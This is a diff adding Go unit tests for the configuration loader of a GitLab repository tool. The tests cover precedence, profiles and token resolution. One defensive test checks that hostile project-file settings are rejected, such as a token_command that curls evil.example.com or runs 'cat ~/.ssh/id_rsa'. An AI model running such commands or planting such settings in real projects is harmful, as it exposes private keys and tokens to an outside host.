@@ -0,0 +1,254 @@
+package config
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+)
+
+// testEnv isolates Load from the user's files and environment. It returns the
+// directories of the user config file and of the project config file, which is
+// the working directory.
+func testEnv(t *testing.T) (userDir, projectDir string) {
+	t.Helper()
+	configHome := t.TempDir()
+	userDir = filepath.Join(configHome, "reposqueeze")
+	if err := os.Mkdir(userDir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("XDG_CONFIG_HOME", configHome)
+	for _, v := range envVars {
+		t.Setenv(v.env, "")
+	}
+	t.Setenv("REPOSQUEEZE_PROFILE", "")
+	projectDir = t.TempDir()
+	t.Chdir(projectDir)
+	return userDir, projectDir
+}
+
+func writeFile(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestLoadPrecedence(t *testing.T) {
+	userDir, projectDir := testEnv(t)
+	writeFile(t, filepath.Join(userDir, "config.yml"), `
+gitlab_url: https://user.example.com
+namespace: user
+transport: api
+http_retries: 1
+deletion_timeout: 1m
+`)
+	writeFile(t, filepath.Join(projectDir, ProjectFileName), `
+namespace: project
+transport: push
+http_retries: 2
+`)
+	t.Setenv("REPOSQUEEZE_TRANSPORT", "api")
+	t.Setenv("GITLAB_HTTP_RETRIES", "3")
+
+	cfg, err := Load("")
+	if err != nil {
+		t.Fatalf("Load: %v", err)
+	}
+	// Flags are applied by the caller after Load.
+	if err := cfg.Set("http-retries", "4"); err != nil {
+		t.Fatal(err)
+	}
+
+	tests := []struct {
+		setting string
+		got     interface{}
+		want    interface{}
+	}{
+		{"default", cfg.GitLabAPIVersion, DefaultGitLabAPIVersion},
+		{"user file", cfg.GitLabURL, "https://user.example.com"},
+		{"user file", cfg.DeletionTimeout, time.Minute},
+		{"project file", cfg.Namespace, "project"},
+		{"environment", cfg.Transport, "api"},
+		{"flag", cfg.HTTPRetries, 4},
+	}
+	for _, tt := range tests {
+		if tt.got != tt.want {
+			t.Errorf("setting from the %s = %v, want %v", tt.setting, tt.got, tt.want)
+		}
+	}
+	wantFiles := []string{filepath.Join(userDir, "config.yml"), ProjectFileName}
+	if !slices.Equal(cfg.Files, wantFiles) {
+		t.Errorf("Files = %v, want %v", cfg.Files, wantFiles)
+	}
+}
+
+func TestLoadProfile(t *testing.T) {
+	const userFile = `
+profile: work
+namespace: base
+profiles:
+  work:
+    namespace: work
+  home:
+    namespace: home
+    gitlab_url: https://home.example.com
+`
+	tests := []struct {
+		name        string
+		projectFile string
+		env         string // REPOSQUEEZE_PROFILE
+		flag        string // --profile
+		wantProfile string
+		wantNS      string
+		wantErr     string
+	}{
+		{name: "file key", wantProfile: "work", wantNS: "work"},
+		{name: "project file key", projectFile: "profile: home\n", wantProfile: "home", wantNS: "home"},
+		{name: "environment", env: "home", wantProfile: "home", wantNS: "home"},
+		{name: "flag over environment", env: "home", flag: "work", wantProfile: "work", wantNS: "work"},
+		{name: "default profile", flag: DefaultProfile, wantProfile: DefaultProfile, wantNS: "base"},
+		{
+			name:        "profile in the project file",
+			projectFile: "profiles:\n  home:\n    namespace: project-home\n",
+			flag:        "home",
+			wantProfile: "home",
+			wantNS:      "project-home",
+		},
+		{name: "unknown profile", flag: "missing", wantErr: `profile "missing" is not defined`},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			userDir, projectDir := testEnv(t)
+			writeFile(t, filepath.Join(userDir, "config.yml"), userFile)
+			if tt.projectFile != "" {
+				writeFile(t, filepath.Join(projectDir, ProjectFileName), tt.projectFile)
+			}
+			t.Setenv("REPOSQUEEZE_PROFILE", tt.env)
+
+			cfg, err := Load(tt.flag)
+			if tt.wantErr != "" {
+				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+					t.Fatalf("Load error = %v, want one containing %q", err, tt.wantErr)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("Load: %v", err)
+			}
+			if cfg.Profile != tt.wantProfile || cfg.Namespace != tt.wantNS {
+				t.Errorf("profile %s with namespace %s, want %s with %s", cfg.Profile, cfg.Namespace, tt.wantProfile, tt.wantNS)
+			}
+		})
+	}
+}
+
+func TestLoadToken(t *testing.T) {
+	tests := []struct {
+		name       string
+		userFile   string
+		env        string // GITLAB_TOKEN
+		wantToken  string
+		wantEnv    string
+		wantSource string
+	}{
+		{name: "none"},
+		{name: "user file", userFile: "token: user-token\n", wantToken: "user-token", wantSource: "config file"},
+		{
+			name:     "token_env replaces a token of lower precedence",
+			userFile: "token: user-token\nprofiles:\n  default:\n    token_env: WORK_TOKEN\n",
+			wantEnv:  "WORK_TOKEN",
+		},
+		{
+			name:       "environment",
+			userFile:   "token_env: WORK_TOKEN\n",
+			env:        "env-token",
+			wantToken:  "env-token",
+			wantEnv:    "WORK_TOKEN",
+			wantSource: "env GITLAB_TOKEN",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			userDir, _ := testEnv(t)
+			if tt.userFile != "" {
+				writeFile(t, filepath.Join(userDir, "config.yml"), tt.userFile)
+			}
+			t.Setenv("GITLAB_TOKEN", tt.env)
+
+			cfg, err := Load("")
+			if err != nil {
+				t.Fatalf("Load: %v", err)
+			}
+			if cfg.GitLabToken != tt.wantToken || cfg.TokenEnv != tt.wantEnv || cfg.TokenSource != tt.wantSource {
+				t.Errorf("token %q, token_env %q, source %q, want %q, %q, %q",
+					cfg.GitLabToken, cfg.TokenEnv, cfg.TokenSource, tt.wantToken, tt.wantEnv, tt.wantSource)
+			}
+		})
+	}
+}
+
+func TestLoadProjectFileCannotSetUserSettings(t *testing.T) {
+	tests := []struct {
+		name        string
+		projectFile string
+		wantErr     string
+	}{
+		{"gitlab_url", "gitlab_url: https://evil.example.com\n", "sets gitlab_url"},
+		{"token", "token: project-token\n", "sets token"},
+		{"token_env", "token_env: OTHER_TOKEN\n", "sets token_env"},
+		{"token_command", "token_command: curl https://evil.example.com\n", "sets token_command"},
+		{"permanently_remove", "permanently_remove: true\n", "sets permanently_remove"},
+		{"deletion_timeout", "deletion_timeout: 0s\n", "sets deletion_timeout"},
+		{
+			"profile",
+			"profiles:\n  work:\n    gitlab_url: https://evil.example.com\n    token_command: cat ~/.ssh/id_rsa\n    permanently_remove: true\n",
+			"profile work sets gitlab_url, token_command, permanently_remove",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			userDir, projectDir := testEnv(t)
+			writeFile(t, filepath.Join(userDir, "config.yml"), "gitlab_url: https://user.example.com\n")
+			writeFile(t, filepath.Join(projectDir, ProjectFileName), tt.projectFile)
+			t.Setenv("GITLAB_TOKEN", "env-token")
+
+			cfg, err := Load("")
+			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+				t.Fatalf("Load error = %v, want one containing %q", err, tt.wantErr)
+			}
+			if cfg != nil {
+				t.Errorf("Load returned settings with GitLab URL %s and token from %s", cfg.GitLabURL, cfg.TokenSource)
+			}
+		})
+	}
+}
+
+func TestResolveToken(t *testing.T) {
+	t.Setenv("WORK_TOKEN", "from-env")
+	tests := []struct {
+		name       string
+		cfg        Config
+		wantToken  string
+		wantSource string
+	}{
+		{"token", Config{GitLabToken: "set", TokenSource: "config file", TokenEnv: "WORK_TOKEN"}, "set", "config file"},
+		{"environment", Config{TokenEnv: "WORK_TOKEN", TokenCommand: "echo from-command"}, "from-env", "env WORK_TOKEN"},
+		{"command", Config{TokenCommand: "echo ' from-command '"}, "from-command", "command echo ' from-command '"},
+		{"command after an empty variable", Config{TokenEnv: "EMPTY_TOKEN", TokenCommand: "echo from-command"}, "from-command", "command echo from-command"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			cfg := tt.cfg
+			if err := cfg.ResolveToken(context.Background()); err != nil {
+				t.Fatalf("ResolveToken: %v", err)
+			}
+			if cfg.GitLabToken != tt.wantToken || cfg.TokenSource != tt.wantSource {
+				t.Errorf("token %q from %q, want %q from %q", cfg.GitLabToken, cfg.TokenSource, tt.wantToken, tt.wantSource)
+			}
+		})
+	}
+}